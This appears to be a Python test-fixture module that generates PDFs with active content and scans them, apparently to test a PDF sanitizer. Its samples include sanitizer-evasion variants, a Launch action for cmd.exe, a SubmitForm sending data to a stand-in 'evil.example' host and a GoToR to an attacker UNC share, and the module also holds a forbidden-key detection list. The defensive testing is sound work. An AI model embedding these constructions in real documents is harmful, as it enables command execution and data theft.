"""PDFs with active content, made here with pikepdf, and the structural walk that finds it.

`ACTIVE_CORPUS` holds every way the outside probe found to keep JavaScript or files in a
"cleaned" PDF, and the classic ones. Each sample is a page with text, vector graphics and an
image, so a test can also see that the rebuilt page still looks the same.

`active_content_tokens` is the check of a served file: it walks every object reachable from
the trailer (and every object the file holds at all), resolving references and object
streams, and returns each forbidden key or name value it meets. It shares nothing with
`pdf_rebuild`, so a rebuild that lets something through is caught.
"""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

FORBIDDEN = frozenset(
    {
        "/JS",
        "/JavaScript",
        "/Launch",
        "/GoToE",
        "/GoToR",
        "/EmbeddedFile",
        "/AA",
        "/OpenAction",
        "/Rendition",
        "/SubmitForm",
        "/ImportData",
        "/RichMedia",
        "/XFA",
    }
)
PAYLOAD = "app.alert('pwned')"


def active_content_tokens(data: bytes) -> set[str]:
    """Every forbidden key or name value in the PDF `data`, wherever it sits."""
    found: set[str] = set()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        stack: list[Any] = [pdf.trailer, *pdf.objects]
        seen: set[tuple[int, int]] = set()
        while stack:
            item = stack.pop()
            if (
                isinstance(item, pikepdf.Dictionary | pikepdf.Array | pikepdf.Stream)
                and item.is_indirect
            ):
                if item.objgen in seen:
                    continue
                seen.add(item.objgen)
            if isinstance(item, pikepdf.Dictionary | pikepdf.Stream):
                for key in item:
                    if key in FORBIDDEN:
                        found.add(key)
                    stack.append(item.get(key))
            elif isinstance(item, pikepdf.Array):
                stack.extend(item)
            elif isinstance(item, pikepdf.Name) and str(item) in FORBIDDEN:
                found.add(str(item))
    return found


def _js(pdf: pikepdf.Pdf) -> Dictionary:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(PAYLOAD)))


def base_pdf() -> pikepdf.Pdf:
    """One A4 page: a line of text, a filled rectangle and a 64 x 64 colour image."""
    pdf = pikepdf.Pdf.new()
    pixels = bytes(
        value for y in range(64) for x in range(64) for value in (x * 4, y * 4, 200 - x - y)
    )
    image = pikepdf.Stream(pdf, zlib.compress(pixels))
    image.Type = Name.XObject
    image.Subtype = Name.Image
    image.Width = 64
    image.Height = 64
    image.ColorSpace = Name.DeviceRGB
    image.BitsPerComponent = 8
    image.Filter = Name.FlateDecode
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    content = (
        b"q 0.1 0.3 0.8 rg 72 600 200 80 re f Q "
        b"q 200 0 0 200 300 500 cm /Im0 Do Q "
        b"BT /F1 28 Tf 72 720 Td (Sprechstunde Nachweis) Tj ET"
    )
    page = Dictionary(
        Type=Name.Page,
        MediaBox=Array([0, 0, 595, 842]),
        Contents=pikepdf.Stream(pdf, content),
        Resources=Dictionary(
            Font=Dictionary(F1=pdf.make_indirect(font)),
            XObject=Dictionary(Im0=pdf.make_indirect(image)),
        ),
    )
    pdf.pages.append(pikepdf.Page(pdf.make_indirect(page)))
    return pdf


def _save(pdf: pikepdf.Pdf, **options: Any) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def _link(pdf: pikepdf.Pdf, action: Dictionary, **extra: Any) -> None:
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 700, 300, 750]), A=action, **extra
    )
    page = pdf.pages[0].obj
    page.Annots = Array([*page.get("/Annots", Array()), pdf.make_indirect(annotation)])


def _embedded_file(pdf: pikepdf.Pdf) -> Dictionary:
    data = pikepdf.Stream(pdf, b"%PDF-1.7 inner file with more JavaScript")
    data.Type = Name.EmbeddedFile
    return pdf.make_indirect(
        Dictionary(
            Type=Name.Filespec, F=String("inner.pdf"), UF=String("inner.pdf"), EF=Dictionary(F=data)
        )
    )


# --- the variants the outside probe found ------------------------------------------------------


def goto_open_action_with_next_javascript() -> bytes:
    pdf = base_pdf()
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=_js(pdf)
    )
    return _save(pdf)


def rendition_action_with_javascript() -> bytes:
    pdf = base_pdf()
    screen = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Screen,
        Rect=Array([0, 0, 100, 100]),
        A=Dictionary(S=Name.Rendition, OP=0, JS=String(PAYLOAD)),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(screen)])
    return _save(pdf)


def aa_on_a_non_widget_form_field() -> bytes:
    pdf = base_pdf()
    field = pdf.make_indirect(
        Dictionary(FT=Name.Tx, T=String("name"), AA=Dictionary(K=_js(pdf), F=_js(pdf)))
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return _save(pdf)


def outline_item_action() -> bytes:
    pdf = base_pdf()
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("Start"), Parent=outlines, A=_js(pdf)))
    outlines.First = item
    outlines.Last = item
    pdf.Root.Outlines = outlines
    return _save(pdf)


def uri_with_next_launch() -> bytes:
    pdf = base_pdf()
    _link(
        pdf,
        Dictionary(
            S=Name.URI,
            URI=String("https://example.org/"),
            Next=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd"))),
        ),
    )
    return _save(pdf)


def catalog_af_with_goto_e_open_action() -> bytes:
    pdf = base_pdf()
    pdf.Root.AF = Array([_embedded_file(pdf)])
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoToE,
        T=Dictionary(R=Name.C, N=String("inner.pdf")),
        D=Array([0, Name.Fit]),
        NewWindow=True,
    )
    return _save(pdf)


# --- the classic ones ---------------------------------------------------------------------------


def open_action_javascript() -> bytes:
    pdf = base_pdf()
    pdf.Root.OpenAction = _js(pdf)
    return _save(pdf)


def names_javascript_tree() -> bytes:
    pdf = base_pdf()
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), _js(pdf)])))
    return _save(pdf)


def launch_link() -> bytes:
    pdf = base_pdf()
    _link(pdf, Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\cmd.exe")))
    return _save(pdf)


def embedded_files_tree() -> bytes:
    pdf = base_pdf()
    pdf.Root.Names = Dictionary(
        EmbeddedFiles=Dictionary(Names=Array([String("inner.pdf"), _embedded_file(pdf)]))
    )
    return _save(pdf)


def acroform_with_xfa() -> bytes:
    pdf = base_pdf()
    xfa = pikepdf.Stream(pdf, b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_indirect(xfa))
    return _save(pdf)


def submit_form_link() -> bytes:
    pdf = base_pdf()
    _link(pdf, Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"), Flags=4))
    return _save(pdf)


def import_data_open_action() -> bytes:
    pdf = base_pdf()
    pdf.Root.OpenAction = Dictionary(S=Name.ImportData, F=String("data.fdf"))
    return _save(pdf)


def rich_media_annotation() -> bytes:
    pdf = base_pdf()
    annotation = Dictionary(
        Type=Name.Annot,
        Subtype=Name.RichMedia,
        Rect=Array([0, 0, 100, 100]),
        RichMediaContent=Dictionary(
            Assets=Dictionary(Names=Array([String("a.swf"), _embedded_file(pdf)]))
        ),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])
    return _save(pdf)


def goto_r_link() -> bytes:
    pdf = base_pdf()
    _link(
        pdf,
        Dictionary(S=Name.GoToR, F=String("\\\\attacker\\share\\x.pdf"), D=Array([0, Name.Fit])),
    )
    return _save(pdf)


def page_aa() -> bytes:
    pdf = base_pdf()
    pdf.pages[0].obj.AA = Dictionary(O=_js(pdf), C=_js(pdf))
    return _save(pdf)


def annotation_aa() -> bytes:
    pdf = base_pdf()
    _link(
        pdf,
        Dictionary(S=Name.URI, URI=String("https://example.org/")),
        AA=Dictionary(E=_js(pdf)),
    )
    return _save(pdf)


def javascript_in_form_xobject_resources() -> bytes:
    pdf = base_pdf()
    form = pikepdf.Stream(pdf, b"q 0 0 1 rg 0 0 50 50 re f Q")
    form.Type = Name.XObject
    form.Subtype = Name.Form
    form.BBox = Array([0, 0, 50, 50])
    form.Resources = Dictionary(
        AA=Dictionary(O=_js(pdf)),
        Names=Dictionary(JavaScript=Dictionary(Names=Array([String("x"), _js(pdf)]))),
        XObject=Dictionary(JS=_js(pdf)),
    )
    page = pdf.pages[0].obj
    page.Resources.XObject.Fm0 = pdf.make_indirect(form)
    page.Contents = pikepdf.Stream(
        pdf, page.Contents.read_bytes() + b" q 1 0 0 1 400 80 cm /Fm0 Do Q"
    )
    return _save(pdf)


def action_on_an_image_xobject() -> bytes:
    pdf = base_pdf()
    image = pdf.pages[0].obj.Resources.XObject.Im0
    image.A = _js(pdf)
    image.AA = Dictionary(O=_js(pdf))
    return _save(pdf)


def action_behind_an_indirect_chain() -> bytes:
    """OpenAction → reference → GoTo → reference → reference → JavaScript whose /JS is itself
    an indirect string: nothing on the way names JavaScript directly."""
    pdf = base_pdf()
    script = pdf.make_indirect(String(PAYLOAD))
    inner = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=script))
    middle = pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([inner])))
    outer = pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=middle))
    pdf.Root.OpenAction = outer
    return _save(pdf)


def javascript_in_an_object_stream() -> bytes:
    pdf = base_pdf()
    pdf.Root.OpenAction = _js(pdf)
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _js(pdf)])))
    data = _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    assert b"/JavaScript" not in data, "the JavaScript dictionary must sit in an object stream"
    return data


ACTIVE_CORPUS: dict[str, Callable[[], bytes]] = {
    "goto-openaction-next-js": goto_open_action_with_next_javascript,
    "rendition-js": rendition_action_with_javascript,
    "aa-on-non-widget-field": aa_on_a_non_widget_form_field,
    "outline-item-action": outline_item_action,
    "uri-next-launch": uri_with_next_launch,
    "catalog-af-gotoe-openaction": catalog_af_with_goto_e_open_action,
    "openaction-js": open_action_javascript,
    "names-javascript": names_javascript_tree,
    "launch-link": launch_link,
    "embedded-files": embedded_files_tree,
    "acroform-xfa": acroform_with_xfa,
    "submitform": submit_form_link,
    "importdata": import_data_open_action,
    "richmedia": rich_media_annotation,
    "gotor": goto_r_link,
    "page-aa": page_aa,
    "annotation-aa": annotation_aa,
    "js-in-form-xobject-resources": javascript_in_form_xobject_resources,
    "action-on-image-xobject": action_on_an_image_xobject,
    "indirect-chain": action_behind_an_indirect_chain,
    "js-in-object-stream": javascript_in_an_object_stream,
}


def filled_form() -> bytes:
    """A form as office software leaves it: a text field holding a value, with no appearance
    of its own (`/NeedAppearances`): the viewer is to draw it."""
    pdf = base_pdf()
    helvetica = pdf.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.Type1,
            BaseFont=Name.Helvetica,
            Encoding=Name.WinAnsiEncoding,
        )
    )
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            V=String("Erika Mustermann"),
            DA=String("/Helv 12 Tf 0 g"),
            Rect=Array([72, 400, 372, 420]),
            P=pdf.pages[0].obj,
            F=4,
        )
    )
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]),
        NeedAppearances=True,
        DR=Dictionary(Font=Dictionary(Helv=helvetica)),
        DA=String("/Helv 0 Tf 0 g"),
    )
    return _save(pdf)
